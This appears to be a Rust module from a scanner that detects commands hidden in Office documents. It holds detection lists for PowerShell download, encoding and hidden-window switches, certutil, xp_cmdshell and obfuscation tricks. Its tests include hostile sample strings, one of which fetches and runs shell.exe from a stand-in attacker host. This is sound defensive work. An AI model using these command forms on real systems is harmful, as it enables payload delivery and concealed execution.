//! What makes text look like a command. Each function is one pass over the text.

use super::lexicon;
use crate::command::{executable_extension, is_ambiguous, program_in, stem, tier};

/// Extensions that count without a folder in front. Others are also endings of quoted symbols
/// (`600000.SH`).
const BARE_EXTENSIONS: &[&str] = &[
    "bat", "cmd", "cpl", "dll", "exe", "hta", "js", "jse", "lnk", "msi", "pif", "ps1", "scr",
    "sct", "vbe", "vbs", "wsf",
];

/// Extensions of scripts whose interpreters do not come with Windows.
const SOURCES: &[&str] = &["pl", "py", "rb", "sh"];

/// Switches of PowerShell and certutil that no feed has.
const SWITCHES: &[&str] = &[
    "-c",
    "-command",
    "-decode",
    "-enc",
    "-encodedcommand",
    "-ep",
    "-exec",
    "-executionpolicy",
    "-file",
    "-noni",
    "-noninteractive",
    "-nop",
    "-noprofile",
    "-sta",
    "-urlcache",
    "-w",
    "-windowstyle",
];

/// Operators and words of shells.
const SHELL_WORDS: &[&str] = &[
    "&&",
    "$(",
    "%comspec%",
    "hkcu\\",
    "hklm\\",
    "invoke-",
    "new-object",
    "start-process",
];

/// Words after the short names of system tools.
const VERBS: &[&str] = &[
    "add",
    "config",
    "create",
    "delete",
    "export",
    "import",
    "localgroup",
    "start",
    "use",
    "user",
];

/// Schemes of addresses inside compiled help.
const HELP: &[&str] = &["its:", "mk:", "ms-its:"];

/// Words of downloads and encoded code in PowerShell.
const POWERSHELL: &[&str] = &[
    "downloadstring",
    "downloadfile",
    "downloaddata",
    "openread(",
    "frombase64string",
    "invoke-expression",
    "invoke-webrequest",
    "invoke-restmethod",
    "net.webclient",
];

/// Words of encoded code in PowerShell.
const DECODERS: &[&str] = &["frombase64string", "gzipstream", "deflatestream"];

/// Calls that are looked at in one text, each to its end: more would make the work quadratic.
const CALLS_LOOKED_AT: usize = 8;

/// How long a run of base64 text is no word any more (Word specification, section 10).
const BASE64_RUN: usize = 40;

/// Blanks between the name of a function and its parenthesis: some keep a long text of blanks
/// from being looked at again and again.
const CALL_SPACE: usize = 16;

fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| {
        c.is_whitespace()
            || matches!(
                c,
                '"' | '\'' | '`' | '(' | ')' | ',' | ';' | '=' | '<' | '>' | '|' | '&' | '{' | '}'
            )
    })
    .filter(|word| !word.is_empty())
}

/// The first thing in a text that only a command has: a switch, a program, a file that runs, an
/// operator.
pub(super) fn command(text: &str) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    let word = words(text)
        .find(|word| is_switch(word) || program_in(word).is_some() || is_executable(word));
    if let Some(word) = word {
        return Some(word.to_owned());
    }
    let shell = SHELL_WORDS.iter().find(|word| lower.contains(**word));
    shell
        .map(|word| (*word).to_owned())
        .or_else(|| powershell(text, false))
}

/// Whether a path in the text climbs. Office programs ask each other for documents by such paths,
/// so the caller looks at what the path leads to.
pub(super) fn climbs(text: &str) -> Option<String> {
    ["..\\", "../"]
        .into_iter()
        .find(|dots| text.contains(dots))
        .map(str::to_owned)
}

/// A verb that makes the short name of a system tool a command: `net user`, `sc create`.
pub(super) fn verb(text: &str) -> Option<String> {
    let first = words(text).next()?.to_ascii_lowercase();
    VERBS.contains(&first.as_str()).then_some(first)
}

/// What makes a command of the short name of one certain tool: `finger user@host`.
pub(super) fn operand(stem: &str, text: &str) -> Option<String> {
    let first = words(text).next()?;
    let lower = first.to_ascii_lowercase();
    let ends = |extensions: &[&str]| {
        let (_, extension) = lower.rsplit_once('.').unwrap_or_default();
        extensions.contains(&extension)
    };
    let found = match stem {
        "csi" => ends(&["cs", "csx", "rsp"]),
        "finger" => lower.contains('@'),
        "hh" => {
            ends(&["chm", "htm", "html"]) || HELP.iter().any(|scheme| lower.starts_with(scheme))
        }
        "te" => ends(&["sct", "wsc", "xml"]),
        _ => false,
    };
    found.then(|| first.to_owned())
}

/// A topic that is nothing but the name of a program, or has one behind a shell operator
/// (`M & calc`). Names that are words too do not count.
pub(super) fn program_topic(text: &str) -> Option<String> {
    let program = |piece: &str| {
        let word = words(piece).next()?.trim_start_matches('@');
        let name = stem(&word.to_ascii_lowercase()).to_owned();
        (tier(&name).is_some() && !is_ambiguous(&name)).then(|| word.to_owned())
    };
    let mut pieces = text.split(['&', '|']);
    let first = pieces.next()?.trim();
    let alone = !first.contains(char::is_whitespace) && first.len() == text.trim().len();
    program(first)
        .filter(|_| alone)
        .or_else(|| pieces.find_map(program))
}

fn is_switch(word: &str) -> bool {
    let mut chars = word.chars();
    let slash = chars.next() == Some('/')
        && chars.next().is_some_and(|c| c.is_ascii_alphabetic())
        && chars.next().is_none_or(|c| c == ':');
    let known = |switch: &&str| switch.eq_ignore_ascii_case(word);
    slash || word.starts_with('-') && SWITCHES.iter().any(known)
}

/// Whether one word is a file that Windows runs.
pub(super) fn is_executable(word: &str) -> bool {
    let name = word.trim_matches(|c: char| matches!(c, '"' | '^' | '.' | ':' | '#' | '!' | '%'));
    let base = name.rsplit(['\\', '/']).next().unwrap_or_default();
    if !base.contains('.') {
        return false;
    }
    let base: String = base.chars().filter(|c| *c != '^').collect();
    let Some(extension) = executable_extension(&base.to_lowercase()) else {
        return false;
    };
    let placed = name.contains('\\') || (name.contains('/') && extension != "com");
    placed || BARE_EXTENSIONS.contains(&extension)
}

/// Whether a path leads to the source of a script that Windows has no program for.
pub(super) fn is_source(path: &str) -> bool {
    let name = path.trim_end_matches(|c: char| matches!(c, '"' | '\'' | '.') || c.is_whitespace());
    let (_, extension) = name.rsplit_once('.').unwrap_or_default();
    SOURCES
        .iter()
        .any(|source| source.eq_ignore_ascii_case(extension))
}

/// The first word of a text, if it is a path to a file that runs.
pub(super) fn leading_executable(text: &str) -> Option<String> {
    let text = text.trim().trim_start_matches(['"', '\'']);
    let first = text.split([' ', '\t', '"', '\'']).next()?;
    (first.contains(['\\', '/']) && !first.starts_with("/") && is_executable(first))
        .then(|| first.to_owned())
}

/// Downloads, encoded text or a hidden window in PowerShell. The short switches only count when
/// PowerShell is named.
pub(super) fn powershell(text: &str, named: bool) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    if let Some(word) = POWERSHELL.iter().find(|word| lower.contains(**word)) {
        return Some((*word).to_owned());
    }
    let is_word = |word: &str| {
        lower
            .split(|c: char| !c.is_alphanumeric())
            .any(|found| found == word)
    };
    if let Some(word) = ["iex", "iwr"].into_iter().find(|word| is_word(word)) {
        return Some(word.to_owned());
    }
    if !named && !names_powershell(&lower) {
        return None;
    }
    encoding_switch(&lower).or_else(|| hiding_switch(&lower))
}

/// Whether the stem is one of PowerShell's.
pub(super) fn is_powershell(stem: &str) -> bool {
    matches!(stem, "powershell" | "powershell_ise" | "pwsh")
}

/// Encoded code in PowerShell. The switch only counts when PowerShell is named.
pub(super) fn encoded(text: &str, named: bool) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    let word = DECODERS.iter().find(|word| lower.contains(**word));
    word.map(|word| (*word).to_owned()).or_else(|| {
        if named || names_powershell(&lower) {
            encoding_switch(&lower)
        } else {
            None
        }
    })
}

/// A window that does not show, or only in the task bar.
pub(super) fn hidden(text: &str, named: bool) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    let starts_small = lower
        .match_indices("start")
        .take(CALLS_LOOKED_AT)
        .any(|(at, _)| {
            let rest = lower.get(at..).unwrap_or_default();
            let line = rest.split(['&', '|']).next().unwrap_or_default();
            words(line).skip(1).take(3).any(|word| word == "/min")
        });
    if starts_small {
        return Some("start /min".to_owned());
    }
    if lower.contains("--headless") {
        return Some("--headless".to_owned());
    }
    let switch = if named || names_powershell(&lower) || lower.contains("start-process") {
        hiding_switch(&lower)
    } else {
        None
    };
    switch.or_else(|| run_unseen(&lower))
}

/// The last argument of `Run` or `ShellExecute` is a zero: the window is hidden.
fn run_unseen(lower: &str) -> Option<String> {
    ["run", "shellexecute"].into_iter().find_map(|method| {
        let mut calls = lower.match_indices(method).take(CALLS_LOOKED_AT);
        let (at, _) = calls.find(|(at, _)| {
            let before = lower.get(..*at).unwrap_or_default();
            before.ends_with('.') || before.ends_with("['") || before.ends_with("[\"")
        })?;
        let call = lower.get(at..)?;
        let mut pieces = call.split(',').skip(1);
        let zero = pieces.any(|piece| {
            let piece = piece.trim_start();
            let rest = piece.strip_prefix('0');
            rest.is_some_and(|rest| {
                let next = rest.trim_start().chars().next();
                next.is_none_or(|next| matches!(next, ')' | ':' | ';' | '"' | '\'' | '&' | '\n'))
                    || piece.starts_with("0,")
            })
        });
        zero.then(|| format!("{method} …,0"))
    })
}

/// The program, if its stem is that of one which fetches what its arguments name.
pub(super) fn downloader(stem: &str) -> Option<&'static str> {
    let known = lexicon::DOWNLOADERS.iter();
    known.copied().find(|known| *known == stem)
}

/// A method, a switch or a program in the text that downloads.
pub(super) fn download(text: &str) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    let method = lexicon::DOWNLOADS
        .iter()
        .find(|word| lower.contains(**word));
    method.map(|word| (*word).to_owned()).or_else(|| {
        words(&lower)
            .filter_map(program_in)
            .find_map(downloader)
            .map(str::to_owned)
    })
}

fn names_powershell(lower: &str) -> bool {
    lower.contains("powershell") || lower.contains("pwsh")
}

/// `-EncodedCommand`, in any length.
fn encoding_switch(lower: &str) -> Option<String> {
    // Any beginning of the name of a switch stands for it.
    let found = words(lower).find(|word| {
        word.strip_prefix(['-', '/']).is_some_and(|name| {
            "encodedcommand".starts_with(name) && !name.is_empty() || name == "ec"
        })
    });
    found.map(str::to_owned)
}

/// `-WindowStyle Hidden`, in any length.
fn hiding_switch(lower: &str) -> Option<String> {
    let mut previous = "";
    for word in words(lower) {
        let window = previous
            .strip_prefix(['-', '/'])
            .is_some_and(|name| "windowstyle".starts_with(name) && !name.is_empty());
        if window && matches!(word, "hidden" | "hid" | "h" | "1") {
            return Some(format!("{previous} {word}"));
        }
        previous = word;
    }
    None
}

/// Carets, pieces of variables, empty quotes within words, long encoded text.
pub(super) fn obfuscation(text: &str) -> Option<String> {
    let mut before = ' ';
    let mut chars = text.chars().peekable();
    let mut percent = false;
    let mut run = 0_usize;
    while let Some(c) = chars.next() {
        let next = chars.peek().copied().unwrap_or(' ');
        if c == '^' && next.is_alphanumeric() {
            return Some("^".to_owned());
        }
        if c == '%' {
            percent = true;
        }
        if percent && c == ':' && next == '~' {
            return Some("%…:~".to_owned());
        }
        if c == '"' && next == '"' && before.is_alphanumeric() {
            let mut after = chars.clone();
            after.next();
            if after.next().is_some_and(char::is_alphanumeric) {
                return Some("\"\"".to_owned());
            }
        }
        run = if c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=') {
            run.saturating_add(1)
        } else {
            0
        };
        if run == BASE64_RUN {
            return Some(format!("{BASE64_RUN} characters of base64"));
        }
        before = c;
    }
    None
}

/// Whether a lower-case text calls this function: its name, and a parenthesis after it.
pub(super) fn calls(text: &str, name: &str) -> bool {
    text.match_indices(name).any(|(at, _)| {
        let (before, found) = text.split_at_checked(at).unwrap_or_default();
        let starts = !before.ends_with(|c: char| c.is_alphanumeric() || c == '_');
        let mut after = found.chars().skip(name.len()).take(CALL_SPACE);
        starts && after.find(|c| !c.is_whitespace()) == Some('(')
    })
}

/// Whether the first argument of a field's instruction begins with a field that data or the
/// reader fill in: `DDEAUTO { MERGEFIELD x } …`.
pub(super) fn merged_service(instruction: &str) -> bool {
    let instruction = instruction.trim_start();
    let Some((_, rest)) = instruction.split_once(char::is_whitespace) else {
        return false;
    };
    let argument = rest.trim_start().trim_start_matches('"');
    let nested = argument.strip_prefix('{').unwrap_or_default();
    let keyword = nested.split_whitespace().next().unwrap_or_default();
    ["ASK", "FILLIN", "MERGEFIELD"]
        .iter()
        .any(|known| known.eq_ignore_ascii_case(keyword))
}

/// A shell in the text of a query: `xp_cmdshell`, `Shell(`, an interpreter.
pub(super) fn shell_in_query(text: &str) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    if let Some(word) = ["xp_cmdshell", "cmd /c", "cmd /k", "cmd.exe"]
        .into_iter()
        .find(|word| lower.contains(*word))
    {
        return Some(word.to_owned());
    }
    if calls(&lower, "shell") {
        return Some("shell(".to_owned());
    }
    // `cmd` alone is a fair name of a column.
    words(&lower)
        // The last part of a web address is a page.
        .filter(|word| !word.contains("://"))
        .filter_map(program_in)
        .find(|name| !matches!(*name, "cmd" | "at" | "net" | "python" | "java" | "explorer"))
        .map(str::to_owned)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands() {
        for text in [
            "/c calc",
            "/C powershell IEX(wget attacker_server/shell.exe)",
            "URL.dll,OpenURL calc.exe",
            "-enc AAAA",
            "x && y",
            "start certutil",
            "C:\\x\\y.vbs",
        ] {
            assert!(command(text).is_some(), "{text}");
        }
        for text in [
            "M",
            "IDN",
            "N7:0,L1,C1",
            "Live",
            "MKT_1",
            "[Book1.xlsx]Sheet1",
            "C:\\data\\prices.xls",
            "..\\prices.xls",
            "600000.SH",
            "www.example.com",
            "EUR/USD",
            "at 5",
            "-1.5",
            "Display",
            "",
        ] {
            assert_eq!(command(text), None, "{text}");
        }
    }

    #[test]
    fn operands_of_short_names() {
        for (stem, text) in [
            ("finger", "user@host"),
            ("csi", "a.csx"),
            ("te", "x.xml"),
            ("hh", "mk:@MSITStore:x"),
            ("hh", "C:\\a.chm"),
        ] {
            assert!(operand(stem, text).is_some(), "{stem} {text}");
        }
        for (stem, text) in [
            ("finger", "x"),
            ("te", "x"),
            ("hh", "topic"),
            ("sc", "a@b"),
            ("te", ""),
        ] {
            assert_eq!(operand(stem, text), None, "{stem} {text}");
        }
    }

    #[test]
    fn programs_as_topics() {
        for text in ["calc", "M & calc", "M|notepad", " mspaint ", "a&&calc.exe"] {
            assert!(program_topic(text).is_some(), "{text}");
        }
        for text in [
            "S&P 500",
            "AT&T",
            "net",
            "M",
            "calc sheet",
            "a & b",
            "",
            "&",
            "A|control",
        ] {
            assert_eq!(program_topic(text), None, "{text}");
        }
    }

    #[test]
    fn powershell_words() {
        let found = |text| powershell(text, true);
        assert_eq!(found("-nop -e AAAA").as_deref(), Some("-e"));
        assert_eq!(found("-nop -EncodedC AAAA").as_deref(), Some("-encodedc"));
        assert_eq!(found("-w 1 -nop").as_deref(), Some("-w 1"));
        assert_eq!(found("-NoP -W Hidden x").as_deref(), Some("-w hidden"));
        assert_eq!(found("(iex)").as_deref(), Some("iex"));
        assert_eq!(powershell("-e x", false), None);
        assert_eq!(powershell("/c calc.exe", false), None);
        assert_eq!(powershell("complexity", true), None);
    }

    #[test]
    fn windows_that_do_not_show() {
        for text in [
            "start /min cmd",
            "start \"t\" /MIN cmd",
            "CreateObject(\"WScript.Shell\").Run \"cmd\",0",
            "x.Run(\"a,b\", 0, False)",
            "o['run']('calc',0)",
            "s.ShellExecute \"cmd\",\"/c x\",\"\",\"open\",0",
            "--headless calc",
        ] {
            assert!(hidden(text, false).is_some(), "{text}");
        }
        for text in [
            "start calc & dir /min",
            "x.Run \"cmd\",1",
            "x.Run \"cmd\"",
            "-w 1",
            "run.exe,0",
            "rundll32 a.dll,0",
            "x.Run \"calc\",05",
        ] {
            assert_eq!(hidden(text, false), None, "{text}");
        }
    }

    #[test]
    fn obfuscated_commands() {
        assert!(obfuscation("/c p^owershell").is_some());
        assert!(obfuscation("%ComSpec:~0,3%").is_some());
        assert!(obfuscation("po\"\"wershell").is_some());
        assert!(obfuscation(&"QUJD".repeat(10)).is_some());
        for text in [
            "/c start \"\" calc",
            "/k calc.exe",
            "http://host/a/b",
            "a: ~b",
        ] {
            assert_eq!(obfuscation(text), None, "{text}");
        }
    }

    #[test]
    fn queries() {
        assert!(shell_in_query("EXEC xp_cmdshell 'dir'").is_some());
        assert!(shell_in_query("powershell -c x").is_some());
        assert!(shell_in_query("SELECT Shell (  'calc.exe')").is_some());
        assert_eq!(shell_in_query("SELECT nutshell(x), shell FROM y"), None);
        assert_eq!(shell_in_query("URL;https://a.example/powershell"), None);
        assert_eq!(shell_in_query("SELECT cmd, net FROM orders"), None);
        assert_eq!(
            shell_in_query("Provider=Microsoft.ACE.OLEDB.12.0;Data Source=C:\\a.xlsx"),
            None
        );
    }
}
